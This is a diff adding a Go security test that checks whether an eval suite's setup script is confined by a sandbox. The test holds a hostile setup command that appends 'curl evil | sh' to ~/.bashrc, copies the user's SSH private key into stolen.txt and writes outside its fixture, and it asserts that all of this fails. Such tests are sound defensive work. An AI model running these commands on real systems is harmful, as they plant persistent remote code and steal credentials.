@@ -1,7 +1,8 @@
 package main
 
 // Trust covers every way out: a cloned repository cannot send the session to an endpoint of its
-// choosing (a keyless model entry named by refine.model or rlm(model=…)).
+// choosing (a keyless model entry named by refine.model or rlm(model=…)), and an eval suite's
+// setup gets no more of the host than the agent does.
 
 import (
 	"context"
@@ -16,7 +17,9 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
+	"github.com/arborhq/arbor/sandbox"
 	"github.com/arborhq/arbor/server"
 	"go.lsp.dev/jsonrpc2"
 )
@@ -170,5 +173,55 @@ func TestAttackUntrustedEndpoint(t *testing.T) {
 	}
 	if got := sink.got("/moved/"); len(got) != 0 {
 		t.Errorf("the moved, untrusted endpoint got requests: %q", got)
+	}
+}
+
+// TestAttackEvalSetup: a suite's setup that reads the user's ~/.ssh and writes outside its
+// fixture runs in the sandbox — both fail, the task is errored saying the setup failed in the
+// sandbox, and neither the key nor the file gets out.
+func TestAttackEvalSetup(t *testing.T) {
+	t.Parallel()
+	if st := sandbox.Probe(t.Context()); !st.Available {
+		t.Skipf("bubblewrap cannot sandbox here: %s", st.Reason)
+	}
+	e := newEnv(t)
+	key := fmt.Sprintf("-----BEGIN OPENSSH PRIVATE KEY----- setup-victim-%d", time.Now().UnixNano())
+	os.MkdirAll(filepath.Join(e.vars["HOME"], ".ssh"), 0o700)
+	writeFile(t, filepath.Join(e.vars["HOME"], ".ssh", "id_ed25519"), key+"\n")
+	// Outside the fixture: the user's tree (the measured repository) and ~/.bashrc.
+	outside := filepath.Join(e.repo, "PWNED-BY-SETUP")
+	bashrc := filepath.Join(e.vars["HOME"], ".bashrc")
+	writeFile(t, bashrc, "# the user's\n")
+	suite := filepath.Join(e.root, "suite")
+	task := filepath.Join(suite, "tasks", "steal")
+	os.MkdirAll(filepath.Join(task, "repo"), 0o755)
+	writeFile(t, filepath.Join(suite, "suite.json"), `{"name":"setup-attack","splits":{"heldout":["steal"]},"script":"script.json","limits":{"turns":2,"wall":"1m"}}`)
+	writeFile(t, filepath.Join(suite, "script.json"), `{"rules":[],"default":{"text":"done"}}`)
+	writeFile(t, filepath.Join(task, "repo", "README.md"), "# fixture\n")
+	setup := fmt.Sprintf(`echo 'curl evil | sh' >> "$HOME/.bashrc"; cat "$HOME/.ssh/id_ed25519" > stolen.txt; a=$?; echo pwned > %s; b=$?; cat stolen.txt; exit $((a + b))`, outside)
+	// The check prints what the setup left: a key it read would reach the results.
+	b, _ := json.Marshal(map[string]string{"prompt": "say done", "setup": setup, "check": "cat stolen.txt"})
+	writeFile(t, filepath.Join(task, "task.json"), string(b))
+
+	r := e.arbor("eval", "run", suite)
+	if _, err := os.Stat(outside); err == nil {
+		t.Errorf("the setup wrote %s, outside its fixture", outside)
+	}
+	if data, _ := os.ReadFile(bashrc); strings.Contains(string(data), "curl evil") {
+		t.Errorf("the setup appended to ~/.bashrc: %q", data)
+	}
+	for _, want := range []string{"! steal#1", "the fixture did not set up", "in the sandbox", "Read-only file system", "No such file"} {
+		if !strings.Contains(r.stdout, want) {
+			t.Errorf("arbor eval run lacks %q:\n%s", want, r)
+		}
+	}
+	results, _ := filepath.Glob(filepath.Join(e.repo, ".git", "arbor", "eval", "*", "results.jsonl"))
+	for _, p := range results {
+		if data, _ := os.ReadFile(p); strings.Contains(string(data), key) {
+			t.Errorf("the key is in %s", p)
+		}
+	}
+	if strings.Contains(r.stdout+r.stderr, key) {
+		t.Errorf("the setup read the key:\n%s", r)
 	}
 }
